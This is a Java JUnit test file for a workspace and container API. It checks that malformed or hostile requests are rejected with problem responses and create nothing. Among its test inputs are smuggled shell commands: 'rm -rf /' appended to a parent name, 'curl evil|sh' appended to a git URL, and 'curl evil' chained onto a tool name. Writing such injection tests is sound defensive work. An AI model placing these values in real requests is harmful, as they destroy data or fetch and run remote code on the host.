package io.a4c.local;

import static org.assertj.core.api.Assertions.assertThat;

import io.a4c.local.testing.ApiClient;
import io.a4c.local.testing.Fleet;
import io.a4c.local.testing.Scenario;
import io.a4c.local.testing.SharedRuntime;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Bad input gets a clear problem (RFC 9457), writes nothing and creates no container. */
@ExtendWith(SharedRuntime.class)
class BadInputTest {
  private ApiClient api;
  private Fleet fleet;
  private Scenario scenario;
  private String project;
  private String user;

  @BeforeEach
  void setUp(ApiClient api, Fleet fleet) {
    this.api = api;
    this.fleet = fleet;
    this.scenario = new Scenario(api);
    this.project = scenario.createProject("badinput");
    scenario.registerImage(project, "amd64", "1", "a4c-base:busybox");
    this.user = scenario.user("mallory");
  }

  static Stream<Arguments> badCreateBodies() {
    return Stream.of(
        Arguments.of("malformed JSON", "{\"projectName\": ", 400, null),
        Arguments.of("not an object", "[1, 2]", 400, null),
        Arguments.of(
            "missing projectName",
            "{\"parentName\": \"main\", \"arch\": \"amd64\"}",
            400,
            "projectName"),
        Arguments.of(
            "missing arch",
            "{\"projectName\": \"PROJECT\", \"parentName\": \"main\"}",
            400,
            "arch"),
        Arguments.of(
            "unknown arch",
            "{\"projectName\": \"PROJECT\", \"parentName\": \"main\", \"arch\": \"sparc\"}",
            400,
            "arch"),
        Arguments.of(
            "unknown field",
            "{\"projectName\": \"PROJECT\", \"parentName\": \"main\", \"arch\": \"amd64\", \"privileged\": true}",
            400,
            "privileged"),
        Arguments.of(
            "wrong type",
            "{\"projectName\": 7, \"parentName\": \"main\", \"arch\": \"amd64\"}",
            400,
            "projectName"),
        Arguments.of(
            "shell in a name",
            "{\"projectName\": \"PROJECT\", \"parentName\": \"main; rm -rf /\", \"arch\": \"amd64\"}",
            400,
            "parentName"),
        Arguments.of(
            "unknown parent",
            "{\"projectName\": \"PROJECT\", \"parentName\": \"release-9\", \"arch\": \"amd64\"}",
            400,
            "parentName"),
        Arguments.of(
            "unknown project",
            "{\"projectName\": \"no-such-project-x\", \"parentName\": \"main\", \"arch\": \"amd64\"}",
            404,
            "projectName"),
        Arguments.of(
            "change with no image",
            "{\"projectName\": \"PROJECT\", \"parentName\": \"main\", \"arch\": \"amd64\", \"change\": \"999\"}",
            409,
            "change"),
        Arguments.of(
            "oversized body",
            "{\"projectName\": \"PROJECT\", \"parentName\": \"main\", \"arch\": \"amd64\", \"name\": \""
                + "x".repeat(70_000)
                + "\"}",
            413,
            null));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badCreateBodies")
  void aBadCreateIsAProblemThatWritesNothingAndCreatesNoContainer(
      String what, String body, int status, String field) {
    var reply =
        api.post(
            "/v1/users/" + user + "/workspaces",
            api.tokenOf(user),
            body.replace("PROJECT", project));

    assertThat(reply.status()).as(reply.body()).isEqualTo(status);
    assertThat(reply.contentType()).isEqualTo("application/problem+json");
    assertThat(reply.at("/status")).isEqualTo(Integer.toString(status));
    assertThat(reply.at("/type")).startsWith("https://a4c.io/problems/");
    assertThat(reply.at("/detail"))
        .isNotBlank()
        .doesNotContain("Exception")
        .doesNotContain("at io.a4c");
    if (field != null) {
      assertThat(reply.at("/field")).isEqualTo(field);
    }
    assertThat(api.get("/v1/users/" + user + "/workspaces", api.tokenOf(user)).json().get("items"))
        .isEmpty();
    assertThat(fleet.containersOf(user)).isEmpty();
  }

  @Test
  void aBodyThatIsNotJsonIs415() {
    var reply =
        api.send(
            "POST",
            "/v1/users/" + user + "/workspaces",
            api.tokenOf(user),
            "projectName=x",
            "application/x-www-form-urlencoded");

    assertThat(reply.status()).isEqualTo(415);
    assertThat(api.get("/v1/users/" + user + "/workspaces", api.tokenOf(user)).json().get("items"))
        .isEmpty();
  }

  @Test
  void badPathsAndQueriesAreProblemsToo() {
    String base = "/v1/users/" + user + "/workspaces";
    assertThat(api.get(base + "/not-a-workspace-id", api.tokenOf(user)).status()).isEqualTo(404);
    assertThat(api.get(base + "/ws-00000000000000000000000000", api.tokenOf(user)).status())
        .isEqualTo(404);
    assertThat(api.get(base + "?limit=0", api.tokenOf(user)).at("/field")).isEqualTo("limit");
    assertThat(api.get(base + "?limit=abc", api.tokenOf(user)).status()).isEqualTo(400);
    assertThat(api.get(base + "?nextToken=forged", api.tokenOf(user)).at("/field"))
        .isEqualTo("nextToken");
    assertThat(api.send("PATCH", base, api.tokenOf(user), "{}", "application/json").status())
        .isEqualTo(405);
    assertThat(api.sendToUndocumentedPath("GET", "/v1/nothing-here", api.tokenOf(user)).status())
        .isEqualTo(404);
  }

  @Test
  void aBadProjectIsRefusedAndNotWritten() {
    String name = scenario.project("evil");
    var reply =
        api.put(
            "/v1/projects/" + name,
            api.adminToken(),
            """
            {"source": {"type": "git", "url": "https://example.com/x.git; curl evil|sh"},
             "baseImage": "a4c-base:busybox", "tools": ["vim"], "parents": ["main"]}
            """);
    assertThat(reply.status()).isEqualTo(400);
    assertThat(reply.at("/field")).isEqualTo("source.url");
    var tool =
        api.put(
            "/v1/projects/" + name,
            api.adminToken(),
            """
            {"source": {"type": "perforce", "depotPath": "//depot/evil/..."},
             "baseImage": "a4c-base:busybox", "tools": ["vim && curl evil"], "parents": ["main"]}
            """);
    assertThat(tool.status()).isEqualTo(400);
    assertThat(tool.at("/field")).isEqualTo("tools[0]");
    assertThat(api.get("/v1/projects/" + name, api.adminToken()).status()).isEqualTo(404);
  }
}
